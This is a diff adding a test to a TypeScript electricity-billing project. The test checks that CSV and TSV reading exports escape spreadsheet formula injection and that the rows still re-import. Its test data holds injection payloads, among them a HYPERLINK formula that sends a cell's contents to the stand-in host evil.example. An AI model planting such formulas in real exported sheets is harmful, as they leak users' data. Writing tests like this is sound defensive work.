@@ -2,10 +2,13 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse as parseDelimited } from 'papaparse';
 import type { ReadingExportRow } from '@kahraba/billing-domain';
 import { createTestDatabase, SqlDatabase } from '@kahraba/persistence';
 import { readReadingSheet, type SheetFormat, writeReadingSheet } from './reading-sheet-file';
 import { billing } from './testing/run-billing';
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
 
 describe('billing readings export and import', () => {
   let env: NodeJS.ProcessEnv;
@@ -21,6 +24,13 @@ describe('billing readings export and import', () => {
        VALUES ('mahmoud-kwh', 1000, 'أحمد "أبو علي"، الحاج', '3', 5, 100, 150, to_char(now(), 'YYYY-MM'), ''),
               ('mahmoud-kwh', 1001, 'سامي', NULL, 10, 200, 0, to_char(now(), 'YYYY-MM'), ''),
               ('baydawi-kwh', 1000, 'من مجموعة أخرى', '1', 5, 0, 0, to_char(now(), 'YYYY-MM'), '')`,
+    );
+    // The generic kWh group holds customers whose typed text a spreadsheet would run.
+    await db.query(
+      `INSERT INTO kwh_customers (system, customer_number, name, box, address, ampere, previous_kwh, current_kwh, month, record_key)
+       VALUES ('kwh', 1000, $1, '-عميل', '+961 3 123456', 5, 100, 150.5, to_char(now(), 'YYYY-MM'), ''),
+              ('kwh', 1001, '@SUM(A1:A9)', NULL, '=1+1', 10, 0, 0, to_char(now(), 'YYYY-MM'), '')`,
+      [HYPERLINK],
     );
     folder = mkdtempSync(join(tmpdir(), 'readings-'));
   });
@@ -90,6 +100,47 @@ describe('billing readings export and import', () => {
       const after = await readings();
       expect(after.map((row) => Number(row.current_kwh) - Number(row.previous_kwh))).toEqual([50, 20]);
       expect(after.map((row) => row.total_amount)).toEqual(['50.00', '20.00']);
+    },
+  );
+
+  it.each<SheetFormat>(['csv', 'tsv'])(
+    'writes the %s sheet as data: opened by a CSV parser, no cell begins with a formula character and numbers stay numbers',
+    async (format) => {
+      const file = join(folder, `kwh.${format}`);
+      const exported = await billing(['readings', 'export', '--system', 'kwh', '--out', file], env);
+      expect(exported.code).toBe(0);
+
+      const { data, errors } = parseDelimited<(string | number | null)[]>(
+        (await readFile(file, 'utf8')).replace(/^\uFEFF/, ''),
+        { delimiter: format === 'csv' ? ',' : '\t', dynamicTyping: true, skipEmptyLines: true },
+      );
+      expect(errors).toEqual([]);
+      expect(data.slice(1).map((row) => row.slice(1))).toEqual([
+        [1000, `'${HYPERLINK}`, "'-عميل", "'+961 3 123456", 5, 100, 150.5, null],
+        [1001, "'@SUM(A1:A9)", null, "'=1+1", 10, 0, 0, null],
+      ]);
+      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+      // Filled and imported back, each row still finds its customer (by id).
+      const sheet = await readReadingSheet(await readFile(file), format);
+      const filled: ReadingExportRow[] = sheet.map((row) => ({
+        id: row.id!,
+        customerNumber: Number(row.customerNumber),
+        name: row.name!,
+        box: row.box || null,
+        address: row.address || null,
+        ampere: Number(row.ampere),
+        previousKwh: Number(row.previousKwh),
+        currentKwh: Number(row.currentKwh),
+        newCurrentKwh: 200,
+      }));
+      await writeFile(file, await writeReadingSheet(filled, format));
+      const dry = await billing(
+        ['readings', 'import', '--system', 'kwh', '--file', file, '--dry-run', '--json'],
+        env,
+      );
+      expect(dry.code).toBe(0);
+      expect(JSON.parse(dry.stdout)).toMatchObject({ updated: 2, skipped: [] });
     },
   );
 
